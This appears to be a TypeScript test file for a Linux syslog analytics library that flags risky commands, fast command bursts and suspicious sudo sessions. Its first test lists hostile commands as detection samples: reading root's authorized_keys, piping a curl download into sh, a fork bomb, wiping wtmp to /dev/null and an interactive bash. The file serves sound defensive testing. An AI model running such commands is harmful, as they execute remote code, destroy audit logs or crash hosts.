// Risky commands, command speed and risky sudo sessions on our own data:
// test/fixtures/linux/sudo-rows.csv, sudo-session.csv (three sudo sessions of dana,
// laid out by hand: /bin/bash in the first, three commands within 15 s in the
// second, a slow apt-get in the third) and custom-rules.json (msticpy's rules format).
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { classifyRow, clusterSessionsCompat, commandSpeed, commandSpeedCompat, loadRules, pairSessions, riskyCommands, riskyCommandsCompat, riskySudoSessions, type SyslogRow } from '../../../src/lib/linux';
import { readFixtureCsv, readFixtureText } from '../../fixtures/linux/read';

const DEFAULT_RULES = loadRules('');
const classified = (name: string) => readFixtureCsv(name).map((r) => classifyRow(r as SyslogRow, { compat: true }) as unknown as Record<string, string>);

test('the default rules flag each kind the contract lists (authorized_keys, wget/curl to a shell, fork bomb, mv to /dev/null, /bin/bash) and nothing benign', () => {
  const commands = [
    'cat /root/.ssh/authorized_keys',
    'curl -fsSL http://203.0.113.5/i | sh',
    ':(){:|:&};:',
    'mv /var/log/wtmp /dev/null',
    '/bin/bash -i',
    'ls -la /srv',
    'systemctl restart nginx',
  ];
  const rows = commands.map((Command, i) => ({ TimeGenerated: `2025-05-04T10:00:0${i}Z`, Command }));
  const found = riskyCommands(rows, DEFAULT_RULES);
  assert.deepEqual(found.map((m) => [m.command, m.rowIndex]), commands.slice(0, 5).map((c, i) => [c, i]));
  assert.equal(new Set(found.map((m) => m.rule)).size, 5, 'one rule each');
  assert.equal(DEFAULT_RULES.length, 5);
});

test('risky_cmd_line compat on sudo-rows.csv: {"2025-05-04T08:04:10.000Z": "/bin/bash"}; a missing field raises', () => {
  const rows = readFixtureCsv('sudo-rows.csv');
  const out = riskyCommandsCompat(rows, DEFAULT_RULES);
  assert.deepEqual(out, { '2025-05-04T08:04:10.000Z': '/bin/bash' });
  assert.throws(() => riskyCommandsCompat(rows, DEFAULT_RULES, 'Test'), /does not contain the Test field/);
  assert.throws(() => riskyCommands(rows, DEFAULT_RULES, 'Test'), /does not contain the Test field/);
  const all = riskyCommands(rows, DEFAULT_RULES);
  assert.deepEqual(all.map((m) => [m.TimeGenerated, m.command, m.rule, m.rowIndex]), [['2025-05-04T08:04:10.000Z', '/bin/bash', '.*/bin/bash.*', 7]]);
});

test('cmd_speed compat on unsorted rows: the only window comes from a negative delta; sorted default finds none', () => {
  // Twelve commands a minute apart, except the last, logged out of order 20 minutes early.
  const rows = Array.from({ length: 12 }, (_v, i) => ({ TimeGenerated: new Date(Date.UTC(2025, 4, 4, 11, i === 11 ? -20 : i)).toISOString(), Command: `/usr/bin/step${i}` }));
  const compat = commandSpeedCompat(rows, 'Command', 5, 10);
  // i runs from 12 − 11 = 1 down to 0: t[11] − t[1] is −21 min (a window), t[10] − t[0] is +10 min (none).
  assert.equal(compat.length, 1);
  const [index, [windowRows, delta]] = Object.entries(compat[0])[0];
  assert.equal(index, '1');
  assert.deepEqual(windowRows.map((r) => r.Command), rows.slice(1, 11).map((r) => r.Command));
  assert.equal(delta, -21 * 60);
  assert.deepEqual(commandSpeed(rows, 'Command', 5, 10), []);
  assert.throws(() => commandSpeedCompat(rows, 'Test', 5, 10), /does not contain the Test field/);
});

test('risky_sudo_sessions on sudo-session.csv (compat chain): session 0 is /bin/bash, session 1 a suspicious burst', () => {
  const rows = classified('sudo-session.csv');
  const risky = riskyCommandsCompat(rows, DEFAULT_RULES);
  assert.deepEqual(risky, { '2025-05-04T09:00:05.000Z': '/bin/bash' });
  const speed = commandSpeedCompat(rows, 'Command', 60, 2);
  // Commands only: bash, id, whoami, uname, apt-get ×2; only id → uname (15 s) is within 60 s.
  assert.deepEqual(speed.map((w) => Object.keys(w)), [['1']]);
  const sessions = clusterSessionsCompat(rows);
  assert.deepEqual(sessions.map((s) => [s.User, s.Start, s.End]), [
    ['dana', '2025-05-04T09:00:00.000Z', '2025-05-04T09:00:30.000Z'],
    ['dana', '2025-05-04T09:20:00.000Z', '2025-05-04T09:20:40.000Z'],
    ['dana', '2025-05-04T09:40:00.000Z', '2025-05-04T09:45:00.000Z'],
  ]);
  const out = riskySudoSessions(sessions, risky, speed);
  assert.deepEqual(out, { 0: '/bin/bash', 1: 'Suspicious event pattern' });
  assert.throws(() => riskySudoSessions(sessions), /At least one of risky_actions or suspicious_actions must be supplied/);
  // Default mode on the same rows marks the same two sessions.
  const marked = riskySudoSessions(pairSessions(rows), riskyCommands(rows, DEFAULT_RULES), commandSpeed(rows, 'Command', 60, 2));
  assert.deepEqual(Object.values(marked).sort(), ['/bin/bash', 'Suspicious event pattern']);
});

test('custom rules (msticpy format) on SyslogMessage: re.match anchors each rule at the start', () => {
  const rules = loadRules(readFixtureText('custom-rules.json'));
  assert.deepEqual(rules.map((r) => r.source), ['pam_unix\\(sudo:auth\\)', 'COMMAND=/bin/bash', '.*USER=www-data.*']);
  assert.deepEqual(loadRules(readFixtureText('custom-rules.json'), 'Apps').map((r) => r.source), ['.*squid.*']);
  const rows = readFixtureCsv('sudo-rows.csv');
  const out = riskyCommandsCompat(rows, rules, 'SyslogMessage');
  // "COMMAND=/bin/bash" appears mid-message only, so re.match never matches it.
  assert.deepEqual(out, {
    '2025-05-04T08:02:00.000Z': rows[3].SyslogMessage,
    '2025-05-04T08:05:00.000Z': rows[9].SyslogMessage,
  });
  assert.ok(Object.values(out).some((m) => m.includes('pam_unix')));
});
